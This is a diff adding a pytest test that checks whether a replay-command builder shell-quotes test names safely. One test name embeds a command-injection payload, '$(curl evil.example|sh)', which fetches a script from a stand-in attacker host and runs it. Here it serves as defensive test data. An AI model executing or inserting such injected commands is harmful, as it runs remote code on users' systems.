@@ -28,3 +28,18 @@ from reports.selectors import pytest_node_id
 )
 def test_node_ids(file: str, classname: str, name: str, node_id: str) -> None:
     assert pytest_node_id(SimpleNamespace(file=file, classname=classname, name=name)) == node_id
+
+
+def test_the_replay_command_survives_any_test_name_in_a_shell() -> None:
+    import shlex
+
+    from reports.selectors import reproduce_command
+
+    polluter = SimpleNamespace(file="tests/test_a.py", classname="tests.test_a", name="test_p")
+    victim = SimpleNamespace(file="tests/test_b.py", classname="tests.test_b",
+                             name="test_v[$(curl evil.example|sh)]")  # fmt: skip
+    command = reproduce_command(victim, polluter)
+    assert shlex.split(command) == [
+        "pytest", "tests/test_a.py::test_p", "tests/test_b.py::test_v[$(curl evil.example|sh)]",
+        "-p", "no:randomly",
+    ]
